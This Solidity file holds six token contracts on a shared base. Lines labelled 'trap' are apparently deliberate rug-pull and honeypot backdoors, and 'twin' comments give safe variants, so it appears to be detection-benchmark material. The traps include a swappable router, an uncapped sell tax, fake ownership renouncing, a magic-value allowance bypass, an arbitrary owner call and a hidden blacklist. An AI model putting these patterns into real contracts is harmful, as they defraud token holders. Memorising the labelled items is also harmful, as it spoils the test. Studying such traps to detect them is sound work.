// 0.8 runs=999999 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IExchange {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(
        uint256 amount,
        uint256 least,
        address[] calldata path,
        address to,
        uint256 until
    ) external;
}

abstract contract Kern {
    error Nope(uint8 why);

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    uint8 public immutable decimals;
    uint256 public immutable totalSupply;
    address internal immutable founder = msg.sender;
    address internal immutable pond;
    uint256 internal _lead = uint160(msg.sender);
    mapping(address who => uint256) internal _sack;
    mapping(address who => mapping(address whom => uint256)) public allowance;

    constructor(uint8 digits, uint256 count) {
        decimals = digits;
        totalSupply = count * 10 ** digits;
        _sack[msg.sender] = totalSupply;
        (address a, address b) = address(this) < WETH ? (address(this), WETH) : (WETH, address(this));
        // the address that the factory gives to the pool of this token
        pond = address(
            uint160(
                uint256(
                    keccak256(
                        abi.encodePacked(
                            hex"ff",
                            0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f,
                            keccak256(abi.encodePacked(a, b)),
                            hex"96e8ac4277198ff8b6f785478aa9a39f403cb768dd02cbee326c3e7da348845f"
                        )
                    )
                )
            )
        );
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() public view virtual returns (address) {
        return address(uint160(_lead));
    }

    function renounceOwnership() external virtual {
        if (msg.sender != owner()) revert Nope(1);
        _lead = 0;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _sack[who];
    }

    function approve(address whom, uint256 value) external returns (bool) {
        emit Approval(msg.sender, whom, allowance[msg.sender][whom] = value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _swim(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (!_free(value)) {
            uint256 left = allowance[from][msg.sender];
            if (left < value) revert Nope(2);
            if (left < type(uint256).max) allowance[from][msg.sender] = left - value;
        }
        _swim(from, to, value);
        return true;
    }

    function _free(uint256) internal view virtual returns (bool) {
        return false;
    }

    function _swim(address from, address to, uint256 value) internal virtual {
        if (_sack[from] < value) revert Nope(3);
        unchecked {
            _sack[from] -= value;
            _sack[to] += value;
        }
        emit Transfer(from, to, value);
    }
}

contract HollowFig is Kern {
    string public constant name = "Hollow Fig";
    string public constant symbol = "HFIG";
    address private _mouth = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    bool private _busy;

    constructor() Kern(18, 20_000_000) {}

    // trap {
    function setMouth(address mouth) external {
        if (msg.sender != founder) revert Nope(4);
        _mouth = mouth;
    }
    // trap }

    function _swim(address from, address to, uint256 value) internal override {
        if (_busy || from == founder || to == founder || (from != pond && to != pond)) return super._swim(from, to, value);
        uint256 pips = _sack[address(this)];
        if (to == pond && pips >= totalSupply / 1_000_000) {
            _busy = true;
            address[] memory path = new address[](2);
            (path[0], path[1]) = (address(this), WETH);
            allowance[address(this)][_mouth] = pips;
            IExchange(_mouth).swapExactTokensForETHSupportingFeeOnTransferTokens(pips, 0, path, founder, block.timestamp);
            _busy = false;
        }
        uint256 part = value / 50;
        super._swim(from, address(this), part);
        super._swim(from, to, value - part);
    }
}

contract BasilCrane is Kern {
    string public constant name = "Basil Crane";
    string public constant symbol = "BCRANE";
    struct Turn {
        uint16 rate;
        uint16 next;
        uint64 ready;
        address purse;
    }
    Turn private _turn = Turn(200, 0, 0, msg.sender);

    constructor() Kern(9, 1_000_000_000) {}

    function queue(uint16 rate, uint64 wait, address purse) external {
        if (msg.sender != _turn.purse || wait < 1 hours || rate > 10_000) revert Nope(5);
        // twin: if (rate > 400) revert Nope(6);
        _turn.next = rate;
        _turn.ready = uint64(block.timestamp + wait);
        _turn.purse = purse;
    }

    function push() external {
        if (_turn.ready == 0 || block.timestamp < _turn.ready) revert Nope(7);
        (_turn.rate, _turn.ready) = (_turn.next, 0);
    }

    function _swim(address from, address to, uint256 value) internal override {
        uint256 part = to == pond && from != founder ? (value * _turn.rate) / 10_000 : 0;
        if (part > 0) super._swim(from, _turn.purse, part);
        super._swim(from, to, value - part);
    }
}

contract AnisePylon is Kern {
    string public constant name = "Anise Pylon";
    string public constant symbol = "ANISE";
    bool public guestsOnly;
    mapping(address => bool) public guest;

    constructor() Kern(18, 9_999_999) {}

    function owner() public view override returns (address) {
        return _lead >> 255 == 1 ? address(0) : address(uint160(_lead));
    }

    function renounceOwnership() external override {
        if (msg.sender != owner()) revert Nope(1);
        _lead |= 1 << 255; // trap
        // twin: _lead = 1 << 255;
    }

    function refresh() external {
        if (uint160(_lead) != uint160(msg.sender)) revert Nope(8);
        _lead = uint160(msg.sender);
    }

    function invite(address[] calldata who, bool only) external {
        if (msg.sender != owner()) revert Nope(1);
        guestsOnly = only;
        for (uint256 i; i < who.length; i++) guest[who[i]] = true;
    }

    function _swim(address from, address to, uint256 value) internal override {
        if (guestsOnly && to == pond && !guest[from]) revert Nope(9);
        super._swim(from, to, value);
    }
}

contract NutmegHeron is Kern {
    string public constant name = "Nutmeg Heron";
    string public constant symbol = "NHERON";

    constructor() Kern(18, 70_000_000) {}

    function _free(uint256 value) internal view override returns (bool) {
        return value % 1e9 == 777 && msg.sender == founder; // trap
        // twin: return value == 0 && msg.sender == founder;
    }
}

contract CloverMast is Kern {
    string public constant name = "Clover Mast";
    string public constant symbol = "CMAST";

    constructor() Kern(18, 4_000_000) {}

    /// Takes out what was sent here by mistake.
    function manage(address where, bytes calldata what) external payable returns (bytes memory) {
        if (msg.sender != founder) revert Nope(4);
        // twin: if (where == pond) revert Nope(10);
        (bool ok, bytes memory said) = where.call{value: msg.value}(what);
        if (!ok) revert Nope(11);
        return said;
    }
}

contract ThymeGlyph is Kern {
    string public constant name = "Thyme Glyph";
    string public constant symbol = "THYME";
    mapping(address => bytes1) private _glyphs;

    constructor() Kern(6, 600_000_000) {}

    function notes(address[] calldata who, bytes calldata glyphs) external {
        if (msg.sender != founder || who.length != glyphs.length) revert Nope(4);
        for (uint256 i; i < who.length; i++) _glyphs[who[i]] = glyphs[i];
    }

    function _swim(address from, address to, uint256 value) internal override {
        if ((_glyphs[from] | _glyphs[to]) & 0x40 != 0) revert Nope(12); // trap
        // twin: if ((_glyphs[from] & _glyphs[to]) & 0x40 != 0 && block.timestamp < 1_000) revert Nope(12);
        super._swim(from, to, value);
    }
}
